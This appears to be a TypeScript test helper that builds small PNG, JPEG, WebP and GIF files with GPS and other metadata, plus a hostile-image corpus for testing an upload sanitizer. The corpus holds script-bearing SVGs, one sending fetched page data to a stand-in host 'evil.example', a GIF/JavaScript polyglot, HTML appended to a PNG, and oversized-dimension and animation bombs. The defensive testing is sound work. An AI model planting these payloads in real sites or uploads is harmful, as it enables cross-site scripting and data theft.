// Tiny images built byte by byte for the media checks' tests, and the hostile corpus written to
// tests/fixtures/hostile/images by scripts/build-hostile-images.ts. Checksums use node:zlib's
// CRC-32, not the checker's own, so a wrong checksum there shows up in the tests. Compressed data
// is written as stored (uncompressed) deflate blocks, so the bytes do not depend on zlib's version.
import { crc32 } from "node:zlib";

export const latin1 = (text: string) => Uint8Array.from(text, (char) => char.charCodeAt(0));
export const utf8 = (text: string) => new TextEncoder().encode(text);

export function concat(...parts: Uint8Array[]) {
  return Uint8Array.from(parts.flatMap((part) => Array.from(part)));
}

const u16be = (value: number) => Uint8Array.of(value >>> 8, value & 0xff);
const u16le = (value: number) => Uint8Array.of(value & 0xff, value >>> 8);
const u24le = (value: number) => Uint8Array.of(value & 0xff, (value >>> 8) & 0xff, value >>> 16);
const u32be = (value: number) => Uint8Array.of(value >>> 24, (value >>> 16) & 0xff, (value >>> 8) & 0xff, value & 0xff);
const u32le = (value: number) => Uint8Array.of(value & 0xff, (value >>> 8) & 0xff, (value >>> 16) & 0xff, value >>> 24);

/** Where `needle` occurs in `haystack`, or -1. */
export function indexOfBytes(haystack: Uint8Array, needle: Uint8Array | string) {
  const bytes = typeof needle === "string" ? latin1(needle) : needle;
  outer: for (let at = 0; at + bytes.length <= haystack.length; at++) {
    for (let index = 0; index < bytes.length; index++) if (haystack[at + index] !== bytes[index]) continue outer;
    return at;
  }
  return -1;
}

// EXIF --------------------------------------------------------------------------------------------

export const GPS_MARKER = "OPORA-GPS-MARKER";
/** Latitude 46° 3′ 4.12″ as EXIF stores it (three rationals), to look for in the output. */
export const GPS_LATITUDE = concat(u32le(46), u32le(1), u32le(3), u32le(1), u32le(412), u32le(100));

/** An EXIF block ("Exif\0\0" and a little-endian TIFF) naming the camera and a GPS position. */
export function exifWithGps() {
  const make = latin1(`${GPS_MARKER}\0`);
  const ifd0At = 8;
  const makeAt = ifd0At + 2 + 2 * 12 + 4;
  const gpsAt = makeAt + make.length + (make.length % 2);
  const latitudeAt = gpsAt + 2 + 4 * 12 + 4;
  const longitudeAt = latitudeAt + 24;
  const entry = (tag: number, type: number, count: number, value: Uint8Array) => concat(u16le(tag), u16le(type), u32le(count), value);
  const tiff = concat(
    latin1("II*\0"),
    u32le(ifd0At),
    u16le(2),
    entry(0x010f, 2, make.length, u32le(makeAt)),
    entry(0x8825, 4, 1, u32le(gpsAt)),
    u32le(0),
    make,
    new Uint8Array(make.length % 2),
    u16le(4),
    entry(0x0001, 2, 2, latin1("N\0\0\0")),
    entry(0x0002, 5, 3, u32le(latitudeAt)),
    entry(0x0003, 2, 2, latin1("E\0\0\0")),
    entry(0x0004, 5, 3, u32le(longitudeAt)),
    u32le(0),
    GPS_LATITUDE,
    concat(u32le(14), u32le(1), u32le(30), u32le(1), u32le(2201), u32le(100)),
  );
  return concat(latin1("Exif\0\0"), tiff);
}

/** A zlib stream of stored deflate blocks: valid for any inflater, and the same bytes everywhere. */
export function zlibStored(data: Uint8Array) {
  const blocks: Uint8Array[] = [];
  for (let at = 0; at === 0 || at < data.length; at += 0xffff) {
    const part = data.subarray(at, at + 0xffff);
    const final = at + 0xffff >= data.length ? 1 : 0;
    blocks.push(Uint8Array.of(final), u16le(part.length), u16le(~part.length & 0xffff), part);
  }
  let a = 1;
  let b = 0;
  for (const byte of data) {
    a = (a + byte) % 65521;
    b = (b + a) % 65521;
  }
  return concat(Uint8Array.of(0x78, 0x01), ...blocks, u32be(((b << 16) | a) >>> 0));
}

// PNG ---------------------------------------------------------------------------------------------

export function pngChunk(type: string, data: Uint8Array | string = new Uint8Array()) {
  const body = concat(latin1(type), typeof data === "string" ? latin1(data) : data);
  return concat(u32be(body.length - 4), body, u32be(crc32(body)));
}

export function pngHeader(width: number, height: number) {
  return pngChunk("IHDR", concat(u32be(width), u32be(height), Uint8Array.of(8, 2, 0, 0, 0)));
}

/** An 8-bit RGB PNG with a colour gradient; `before`/`after` are chunks put before and after IDAT. */
export function png({ width, height, before = [], after = [] }: { width: number; height: number; before?: Uint8Array[]; after?: Uint8Array[] }) {
  const rows = Array.from({ length: height }, (_, y) => [0, ...Array.from({ length: width }, (_, x) => [(x * 40) & 0xff, (y * 60) & 0xff, 128]).flat()]).flat();
  return concat(latin1("\x89PNG\r\n\x1a\n"), pngHeader(width, height), ...before, pngChunk("IDAT", zlibStored(Uint8Array.from(rows))), ...after, pngChunk("IEND"));
}

export const PNG_METADATA = [
  pngChunk("tEXt", "Author\0OPORA-PNG-TEXT-MARKER"),
  pngChunk("zTXt", concat(latin1("Comment\0\0"), zlibStored(latin1("OPORA-PNG-ZTXT-MARKER")))),
  pngChunk("iTXt", "XML:com.adobe.xmp\0\0\0\0\0<x:xmpmeta><exif:GPSLatitude>46,3.0412N</exif:GPSLatitude></x:xmpmeta>"),
  pngChunk("tIME", Uint8Array.of(0x07, 0xe8, 3, 14, 9, 26, 53)),
  pngChunk("eXIf", exifWithGps().subarray(6)),
];

// JPEG --------------------------------------------------------------------------------------------

export function jpegSegment(marker: number, payload: Uint8Array | string) {
  const data = typeof payload === "string" ? latin1(payload) : payload;
  return concat(Uint8Array.of(0xff, marker), u16be(data.length + 2), data);
}

/** JFIF APP0, optionally with an uncompressed thumbnail of `thumbnail` pixels (RGB triples). */
export function jfif(thumbnail?: { width: number; height: number; rgb: Uint8Array }) {
  const size = thumbnail ? Uint8Array.of(thumbnail.width, thumbnail.height) : Uint8Array.of(0, 0);
  return jpegSegment(0xe0, concat(latin1("JFIF\0\x01\x02\0"), u16be(72), u16be(72), size, thumbnail?.rgb ?? new Uint8Array()));
}

/**
 * A grey baseline JPEG of any size: one component, a quantisation table of ones, and Huffman tables
 * with a single one-bit code each, so every 8×8 block is "DC unchanged, end of block" (two 0 bits).
 * `segments` go between SOI and the tables, where cameras put theirs.
 */
export function jpeg({ width, height, segments = [] }: { width: number; height: number; segments?: Uint8Array[] }) {
  const blocks = Math.ceil(width / 8) * Math.ceil(height / 8);
  const bits = blocks * 2;
  const scan = new Uint8Array(Math.ceil(bits / 8));
  if (bits % 8) scan[scan.length - 1] = 0xff >> (bits % 8);
  const oneCodeTable = (tableClass: number) => concat(Uint8Array.of(tableClass, 1), new Uint8Array(15), Uint8Array.of(0));
  return concat(
    Uint8Array.of(0xff, 0xd8),
    ...segments,
    jpegSegment(0xdb, concat(Uint8Array.of(0), new Uint8Array(64).fill(1))),
    jpegSegment(0xc0, concat(Uint8Array.of(8), u16be(height), u16be(width), Uint8Array.of(1, 1, 0x11, 0))),
    jpegSegment(0xc4, oneCodeTable(0x00)),
    jpegSegment(0xc4, oneCodeTable(0x10)),
    jpegSegment(0xda, Uint8Array.of(1, 1, 0x00, 0, 63, 0)),
    scan,
    Uint8Array.of(0xff, 0xd9),
  );
}

export const ICC_PROFILE = jpegSegment(0xe2, concat(latin1("ICC_PROFILE\0"), Uint8Array.of(1, 1), latin1("opora-test-profile")));
export const ADOBE = jpegSegment(0xee, concat(latin1("Adobe"), u16be(100), u16be(0), u16be(0), Uint8Array.of(0)));

/** What cameras and editors write: EXIF with GPS, XMP, IPTC, APP12, a comment, a JFIF thumbnail. */
export const JPEG_METADATA = [
  jpegSegment(0xe1, exifWithGps()),
  jpegSegment(0xe1, concat(latin1("http://ns.adobe.com/xap/1.0/\0"), utf8("<x:xmpmeta><exif:GPSLatitude>46,3.0412N</exif:GPSLatitude></x:xmpmeta>"))),
  jpegSegment(0xec, "Ducky\0OPORA-APP12-MARKER"),
  jpegSegment(0xed, "Photoshop 3.0\x008BIM\x04\x04\0\0\0\0\0\x1cOPORA-IPTC-MARKER"),
  jpegSegment(0xfe, "OPORA-COMMENT-MARKER"),
];

// WebP --------------------------------------------------------------------------------------------

const fromHex = (text: string) => Uint8Array.from(text.match(/../g) ?? [], (pair) => Number.parseInt(pair, 16));

/** libwebp's encoding of a 3 × 2 red image, lossless (the VP8L chunk's payload). */
export const VP8L_3X2 = fromHex("2f024000000710fd8ffe0722a2ff0100");
/** libwebp's encoding of a 5 × 4 gradient, lossy (the VP8 chunk's payload). */
export const VP8_5X4 = fromHex("b002009d012a0500040004006825a802746b80c100fd00f7ff03d0ed85a800fee9539dcd3ff826fd79533fe842a67d9bff3fbb5cdebb21b24500f5c000");
/** A 2 × 2 lossless frame. */
export const VP8L_2X2 = fromHex("2f014000000710fd8ffe0722a2ff0100");

export function webpChunk(type: string, data: Uint8Array | string) {
  const body = typeof data === "string" ? utf8(data) : data;
  return concat(latin1(type), u32le(body.length), body, new Uint8Array(body.length % 2));
}

export function webp(...chunks: Uint8Array[]) {
  const body = concat(latin1("WEBP"), ...chunks);
  return concat(latin1("RIFF"), u32le(body.length), body);
}

export const VP8X_ICC = 0x20;
export const VP8X_ALPHA = 0x10;
export const VP8X_EXIF = 0x08;
export const VP8X_XMP = 0x04;
export const VP8X_ANIMATION = 0x02;

export function vp8x(width: number, height: number, flags: number) {
  return webpChunk("VP8X", concat(Uint8Array.of(flags, 0, 0, 0), u24le(width - 1), u24le(height - 1)));
}

export function animationFrame(width: number, height: number, bitstream: Uint8Array, x = 0, y = 0) {
  return webpChunk("ANMF", concat(u24le(x / 2), u24le(y / 2), u24le(width - 1), u24le(height - 1), u24le(100), Uint8Array.of(0), webpChunk("VP8L", bitstream)));
}

export const WEBP_EXIF = webpChunk("EXIF", exifWithGps().subarray(6));
export const WEBP_XMP = webpChunk("XMP ", "<x:xmpmeta><exif:GPSLatitude>46,3.0412N</exif:GPSLatitude></x:xmpmeta>");

// GIF ---------------------------------------------------------------------------------------------

function subBlocks(data: Uint8Array) {
  const parts: Uint8Array[] = [];
  for (let at = 0; at < data.length; at += 255) {
    const part = data.subarray(at, at + 255);
    parts.push(Uint8Array.of(part.length), part);
  }
  return concat(...parts, Uint8Array.of(0));
}

/**
 * LZW with a minimum code size of 2 that sends a clear code before every second pixel, so the code
 * table never grows and every code stays 3 bits wide: larger than real encoders make, but valid.
 */
function lzw(pixels: number[]) {
  const CLEAR = 4;
  const END = 5;
  const codes: number[] = [];
  pixels.forEach((pixel, index) => {
    if (index % 2 === 0) codes.push(CLEAR);
    codes.push(pixel);
  });
  codes.push(END);
  const out = new Uint8Array(Math.ceil((codes.length * 3) / 8));
  codes.forEach((code, index) => {
    for (let bit = 0; bit < 3; bit++) if (code & (1 << bit)) out[(index * 3 + bit) >> 3] |= 1 << ((index * 3 + bit) & 7);
  });
  return concat(Uint8Array.of(2), subBlocks(out));
}

/** An image descriptor and its pixels (a diagonal pattern), or `data` instead when given. */
export function gifFrame(width: number, height: number, { x = 0, y = 0, data }: { x?: number; y?: number; data?: Uint8Array } = {}) {
  const pixels = () => Array.from({ length: width * height }, (_, index) => (index + Math.floor(index / width)) % 4);
  return concat(Uint8Array.of(0x2c), u16le(x), u16le(y), u16le(width), u16le(height), Uint8Array.of(0), data ?? lzw(pixels()));
}

export function gifExtension(label: number, data: Uint8Array | string) {
  return concat(Uint8Array.of(0x21, label), subBlocks(typeof data === "string" ? latin1(data) : data));
}

export function gifApplication(identifier: string, data: Uint8Array | string) {
  return concat(Uint8Array.of(0x21, 0xff, 11), latin1(identifier), subBlocks(typeof data === "string" ? latin1(data) : data).subarray(0));
}

export const GIF_LOOP = gifApplication("NETSCAPE2.0", Uint8Array.of(1, 0, 0));
export const GIF_DELAY = gifExtension(0xf9, Uint8Array.of(0, 10, 0, 0));

/** A GIF89a with a four-colour table; `blocks` are frames and extensions in order. */
export function gif(width: number, height: number, ...blocks: Uint8Array[]) {
  const palette = Uint8Array.of(0, 0, 0, 255, 255, 255, 200, 30, 30, 30, 30, 200);
  return concat(latin1("GIF89a"), u16le(width), u16le(height), Uint8Array.of(0x81, 0, 0), palette, ...blocks, Uint8Array.of(0x3b));
}

export const GIF_METADATA = [gifExtension(0xfe, "OPORA-GIF-COMMENT-MARKER"), gifApplication("XMP DataXMP", "<x:xmpmeta>OPORA-GIF-XMP-MARKER</x:xmpmeta>"), gifApplication("ICCRGBG1012", "opora-test-profile")];

// The hostile corpus --------------------------------------------------------------------------------

const PLAIN_PNG = png({ width: 4, height: 3 });

/** Every file of tests/fixtures/hostile/images, by name. What each should meet is in its README. */
export const HOSTILE_IMAGES: Record<string, () => Uint8Array> = {
  "empty.png": () => new Uint8Array(),
  "svg-script.svg": () => utf8(`<?xml version="1.0" encoding="UTF-8"?>\n<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10" onload="alert(1)">\n  <script>fetch("/me").then((r) => r.text()).then((t) => navigator.sendBeacon("https://evil.example/", t))</script>\n</svg>\n`),
  "svg-renamed.png": () => utf8(`\uFEFF  <svg xmlns="http://www.w3.org/2000/svg"><script>alert(document.cookie)</script></svg>`),
  "html-renamed.png": () => utf8(`<!DOCTYPE html>\n<html><body><script>fetch("/me").then((r) => r.text()).then(alert)</script></body></html>\n`),
  // Both a GIF header and a script: the bytes after "GIF89a" open a JavaScript comment, and read as
  // the GIF's width they give 10,799 px.
  "polyglot-gif-js.gif": () => latin1("GIF89a/*\x0a\x00\x00\x00\x00*/=alert(document.domain);//\x3b"),
  // A real PNG with a web page after its end: the page is dropped, the picture kept.
  "polyglot-png-html.png": () => concat(PLAIN_PNG, utf8("<html><script>alert(document.domain)</script></html>")),
  "truncated.png": () => PLAIN_PNG.subarray(0, PLAIN_PNG.length - 20),
  "huge-chunk-length.png": () => concat(PLAIN_PNG.subarray(0, 33), u32be(0xfffffff0), latin1("IDAT"), new Uint8Array(16)),
  "huge-segment-length.jpg": () => concat(Uint8Array.of(0xff, 0xd8, 0xff, 0xe1, 0xff, 0xff), latin1("Exif\0\0"), new Uint8Array(32)),
  "dimensions-100000.png": () => concat(latin1("\x89PNG\r\n\x1a\n"), pngHeader(100_000, 100_000), pngChunk("IDAT", zlibStored(new Uint8Array(64))), pngChunk("IEND")),
  "dimensions-65500.jpg": () => concat(Uint8Array.of(0xff, 0xd8), jpegSegment(0xc0, concat(Uint8Array.of(8), u16be(65_500), u16be(65_500), Uint8Array.of(1, 1, 0x11, 0)))),
  "animation-bomb.gif": () => gif(4000, 4000, ...Array.from({ length: 17 }, () => gifFrame(4000, 4000, { data: Uint8Array.of(2, 2, 0x4c, 0x01, 0) }))),
  "exif-gps.jpg": () => jpeg({ width: 16, height: 8, segments: [jfif({ width: 1, height: 1, rgb: latin1("THM") }), ...JPEG_METADATA, ICC_PROFILE, ADOBE] }),
  "text-chunks.png": () => png({ width: 4, height: 3, before: PNG_METADATA.slice(0, 3), after: PNG_METADATA.slice(3) }),
  "exif-xmp.webp": () => webp(vp8x(3, 2, VP8X_EXIF | VP8X_XMP), webpChunk("VP8L", VP8L_3X2), WEBP_EXIF, WEBP_XMP),
  "comment-xmp.gif": () => gif(3, 2, GIF_LOOP, ...GIF_METADATA, GIF_DELAY, gifFrame(3, 2)),
};
